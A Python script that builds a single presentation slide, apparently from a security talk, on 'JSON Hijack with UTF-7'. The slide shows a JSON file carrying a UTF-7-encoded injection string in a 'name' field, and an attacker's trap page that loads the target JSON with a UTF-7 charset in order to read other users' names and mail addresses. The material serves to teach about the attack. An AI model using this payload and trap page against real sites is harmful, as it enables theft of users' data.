
import dataclasses

import lxml.etree
import pptx
import pptx.dml.color
import pptx.enum.shapes
import pptx.enum.text
import pptx.oxml.ns
import pptx.util

ANCHOR = pptx.enum.text.MSO_ANCHOR
ALIGN = pptx.enum.text.PP_ALIGN


@dataclasses.dataclass(frozen=True)
class Theme:
    heading_font: str = "Noto Sans CJK JP"
    code_font: str = "Calibri"
    number_font: str = "Cabin"
    ink: str = "000000"
    band: str = "007DDA"
    muted: str = "D9D9D9"
    code_fill: str = "003366"
    code_line: str = "003399"
    code_text: str = "FFFFFF"
    highlight: str = "FFFF00"
    title_size: int = 44
    heading_size: int = 28
    code_size: int = 24
    json_size: int = 20
    footer_size: int = 12


class SlideBuilder:
    COLUMNS, ROWS = 100, 75

    def __init__(self, deck, theme):
        self.deck = deck
        self.theme = theme
        self.slide = deck.slides.add_slide(deck.slide_layouts[5])

    def area(self, column, row, columns, rows):
        cell_width = self.deck.slide_width / self.COLUMNS
        cell_height = self.deck.slide_height / self.ROWS
        return (round(column * cell_width), round(row * cell_height),
                round(columns * cell_width), round(rows * cell_height))

    def style(self, font, name, size, color, bold=None, italic=None):
        font.name = name
        font.size = pptx.util.Pt(size)
        font.color.rgb = pptx.dml.color.RGBColor.from_string(color)
        font.bold = bold
        font.italic = italic

    def title(self, area, wording):
        heading = self.slide.shapes.title
        heading.left, heading.top, heading.width, heading.height = self.area(*area)
        frame = heading.text_frame
        frame.text = wording
        frame.vertical_anchor = ANCHOR.MIDDLE
        frame.auto_size = pptx.enum.text.MSO_AUTO_SIZE.NONE
        line = frame.paragraphs[0]
        line.alignment = ALIGN.LEFT
        self.style(line.font, self.theme.heading_font, self.theme.title_size,
                   self.theme.ink, bold=True)

    def panel(self, area, fill, outline=None):
        panel = self.slide.shapes.add_shape(
            pptx.enum.shapes.MSO_SHAPE.RECTANGLE, *self.area(*area))
        panel.shadow.inherit = False
        panel.fill.solid()
        panel.fill.fore_color.rgb = pptx.dml.color.RGBColor.from_string(fill)
        if outline:
            panel.line.color.rgb = pptx.dml.color.RGBColor.from_string(outline)
            panel.line.width = pptx.util.Pt(2.25)
        else:
            panel.line.fill.background()
        return panel

    def text(self, area, runs, align=ALIGN.LEFT, anchor=ANCHOR.TOP):
        frame = self.slide.shapes.add_textbox(*self.area(*area)).text_frame
        frame.word_wrap = True
        frame.vertical_anchor = anchor
        line = frame.paragraphs[0]
        line.alignment = align
        for wording, look in runs:
            run = line.add_run()
            run.text = wording
            self.style(run.font, **look)
        return line

    def tab_stop(self, line, columns):
        properties = line._p.get_or_add_pPr()
        stops = lxml.etree.SubElement(properties, pptx.oxml.ns.qn("a:tabLst"))
        stop = lxml.etree.SubElement(stops, pptx.oxml.ns.qn("a:tab"))
        stop.set("pos", str(self.area(columns, 0, 0, 0)[0]))
        stop.set("algn", "l")

    def code(self, area, size, lines):
        frame = self.panel(area, self.theme.code_fill, self.theme.code_line).text_frame
        frame.word_wrap = True
        frame.vertical_anchor = ANCHOR.TOP
        for index, (depth, parts) in enumerate(lines):
            line = frame.paragraphs[0] if index == 0 else frame.add_paragraph()
            line.alignment = ALIGN.LEFT
            self.style(line.font, self.theme.code_font, size, self.theme.code_text)
            indent = pptx.util.Pt(depth * size * 0.45)
            line._p.get_or_add_pPr().set("marL", str(indent))
            for wording, color in parts:
                run = line.add_run()
                run.text = wording
                self.style(run.font, self.theme.code_font, size, color)


def main():
    deck = pptx.Presentation()
    deck.slide_width = pptx.util.Inches(10)
    deck.slide_height = pptx.util.Inches(7.5)
    theme = Theme()
    page = SlideBuilder(deck, theme)

    left, width = 5.1, 92.1
    heading = dict(name=theme.heading_font, size=theme.heading_size, color=theme.ink)
    bold_heading = dict(heading, bold=True)
    address = dict(name=theme.code_font, size=theme.code_size, color=theme.ink)
    footer = dict(name=theme.heading_font, size=theme.footer_size, color=theme.muted)
    number = dict(footer, name=theme.number_font)

    page.panel((0, 0, 100, 1.6), theme.band)
    page.panel((0, 71.4, 100, 3.6), theme.ink)
    slogan = page.text((0, 72, 73.2, 3), [
        ("INNOVATION TO THE FUTURE\t", footer),
        ("Qelvoran Co., Ltd.", dict(footer, italic=True))])
    page.tab_stop(slogan, 24)
    page.panel((0, 70.6, 100, 1.6), theme.band)

    page.title((2.8, 0, 90, 12.5), "JSON Hijack with UTF-7")
    page.text((76.7, 71.4, 23.3, 3.6), [("32", number)], ALIGN.RIGHT, ANCHOR.MIDDLE)

    json_lines = [
        (0, '['),
        (1, '{'),
        (2, '"name" : "abc+MPv/fwAiAH0AXQA7-var t+AD0AWwB7ACIAIg-:+ACI-",'),
        (2, '"mail" : "hasegawa@utf-8.jp"'),
        (1, '},'),
        (1, '{'),
        (2, '"name" : "John Smith",'),
        (2, '"mail" : "john@example.com"'),
        (1, '}'),
        (0, ']'),
    ]
    page.code((left, 33.5, width, 34.7), theme.json_size,
              [(depth, [(wording, theme.code_text)]) for depth, wording in json_lines])
    page.text((left, 28.4, width, 5.7), [
        ("JSON for target ", bold_heading),
        (": ", heading),
        ("http://example.com/newmail.json", address)])

    page.text((left, 11.5, width, 5.7),
              [("trap HTML page created by attacker", bold_heading)])
    page.code((left, 17, width, 9.1), theme.code_size, [
        (0, [('<script src="http://example.com/newmail.json" ', theme.code_text),
             ('charset="utf-7"', theme.highlight),
             ('>', theme.code_text)]),
        (0, [('<script> alert( t[ 1 ].name + t[ 1 ].mail ); </script>',
              theme.code_text)]),
    ])
    deck.save("out.pptx")


if __name__ == "__main__":
    main()
